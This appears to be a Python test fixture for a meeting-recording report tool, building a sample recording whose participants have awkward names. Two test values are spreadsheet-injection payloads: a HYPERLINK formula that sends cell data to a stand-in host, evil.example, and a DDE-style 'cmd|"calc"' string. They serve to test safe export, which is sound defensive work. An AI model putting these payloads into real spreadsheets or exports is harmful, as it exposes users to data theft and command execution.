"""A short recording whose people have awkward names, and the tables of its report."""

from __future__ import annotations

import io
import json
from collections.abc import Iterable
from pathlib import Path

from pexdash.plain.report.formats import Style
from pexdash.plain.report.report import Report, table_of
from pexdash.plain.report.tables import TABLES
from pexdash.session.feed.record_lines import rfc_3339

STARTED = 1_770_000_000.0
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NUMBER = "+49 30 1234567"
WIDE = "会議室 " * 12
ANN = {"uuid": "a1", "display_name": FORMULA, "uri": NUMBER, "has_media": True, "role": "chair"}
BOB = {"uuid": "b1", "display_name": WIDE, "uri": "sip:bob@example.com", "has_media": True}
LINE = '-1+cmd|"calc",\n"second line"; Grüße'


def event(t: float, name: str, data: object) -> dict[str, object]:
    return {"t": t, "event": name, "data": json.dumps(data), "id": ""}


def start(*, alias: str = "meet.alice", started: float = STARTED, **more: object) -> list[object]:
    """The lines with which a recording begins, for a live line and nobody in the meeting."""
    header = {"pexdash-recording": 2, "alias": alias, "cluster": "", "node": "n", **more}
    return [
        {**header, "started": rfc_3339(started), "version": "0"},
        {"t": 0, "me": {"uuid": "e1", "role": "host"}},
        {"t": 0, "line": "live", "why": ""},
        {"t": 0, "list": []},
    ]


MEETING: list[object] = [
    *start(),
    event(10, "participant_create", ANN),
    event(20, "participant_create", BOB),
    event(25, "stage", [{"participant_uuid": "b1", "stage_index": 0, "vad": 9}]),
    event(30, "message", {"origin": "x", "payload": LINE, "uuid": "b1"}),
    event(35, "stage", []),
    {
        "t": 40,
        "action": {
            "asked": rfc_3339(STARTED + 39),
            "title": "Mute",
            "request": "mute",
            "outcome": "done",
            "uuid": "b1",
            "name": "Bob",
            "took": 0.25,
            "fields": {"pin": "***"},
        },
    },
    {"t": 50, "alarm": {"change": "raised", "rule": "waiting", "subject": "b1", "text": "Bob"}},
    {"t": 70, "alarm": {"change": "acked", "rule": "waiting", "subject": "b1", "by": "Ann"}},
    {"t": 80, "alarm": {"change": "cleared", "rule": "waiting", "subject": "b1"}},
    event(100, "participant_delete", {"uuid": "a1"}),
    event(110, "participant_delete", {"uuid": "b1"}),
    {"t": 120, "line": "ended", "why": ""},
]


def written(path: Path, lines: Iterable[object]) -> Path:
    """A recording with these lines."""
    path.write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    return path


def report_on(*paths: Path, style: Style | None = None, has_pseudonyms: bool = False) -> Report:
    return Report(paths, style=style or Style(), has_pseudonyms=has_pseudonyms, say=lambda _: None)


def printed(report: Report, what: str, form: str) -> str:
    """One table."""
    file = io.StringIO(newline="")
    if form == "text":
        report.print_text([table_of(what)] if what else TABLES, file)
    else:
        report.print_table(table_of(what), form, file)
    return file.getvalue()
